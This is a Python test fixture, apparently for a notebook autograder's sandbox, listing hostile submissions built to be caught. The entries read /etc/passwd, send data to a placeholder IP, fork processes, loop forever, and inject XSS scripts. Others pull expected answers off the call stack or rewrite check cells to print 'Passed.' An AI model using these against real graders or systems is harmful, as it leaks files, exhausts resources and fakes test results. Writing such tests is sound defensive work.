"""Hostile submissions of a demo class: each takes the place of one answer, or stands beside right ones.

None of them harms more than the process that it runs in, which a sandbox ends. They are written to be caught, and run
nowhere but there.
"""

from __future__ import annotations


def _instead(body: str):
    """The answer's function, with a body that attacks."""

    def attack(made, exercise):
        lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
        made.put(exercise.name, f"def {exercise.name}({', '.join(exercise.parameters)}):\n{lines}")

    return attack


def _beside(source: str):
    """A cell before all others; the answers are right."""

    def attack(made, exercise):
        made.notebook["cells"].insert(0, {
            "cell_type": "code", "id": "first", "metadata": {}, "source": source, "outputs": [], "execution_count": None,
        })  # fmt: skip

    return attack


def _changes_the_checks(made, exercise):
    """Takes the checks out, says that they passed, and tags what is left so that it does not run."""
    _instead("return None")(made, exercise)
    for cell in made.notebook["cells"]:
        if cell["id"].endswith(("-check", "-hidden")):
            cell["source"] = 'print("Passed.")'
            cell["metadata"]["tags"] = ["skip-execution"]


ATTACKS = {
    "ends_the_process": _instead("import os\nos._exit(0)"),
    "reads_files": _instead("""
import glob
found = [place for place in ("/work", "/home", "/root", "/course", "/tmp") for place in glob.glob(place + "/**/*.ipynb", recursive=True)]
raise ValueError(str(found) + open("/etc/passwd").read())"""),
    "walks_the_stack": _instead("""
import sys
frame = sys._getframe()
while frame:
    for name in ("expected", "value", "answer", "reference"):
        if name in frame.f_locals:
            return frame.f_locals[name]
    frame = frame.f_back"""),
    "never_ends": _instead("""
while True:
    try:
        while True:
            pass
    except BaseException:
        pass"""),
    "takes_memory": _instead("return np.ones(2**36)"),
    "opens_a_socket": _instead("""
import socket
socket.create_connection(("192.0.2.1", 80), timeout=2).send(b"hidden inputs")"""),
    "leaves_processes": _instead("""
import os, time
for _ in range(30):
    if os.fork() == 0:
        time.sleep(1000)
raise ValueError("they are still there")"""),
    "changes_the_checks": _changes_the_checks,
    "prints_without_end": _beside('print("x" * 150_000_000)'),
    "shows_a_script": _beside("""\
from IPython.display import HTML, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>a</a>"))"""),
}
BESIDE = {"prints_without_end", "shows_a_script"}
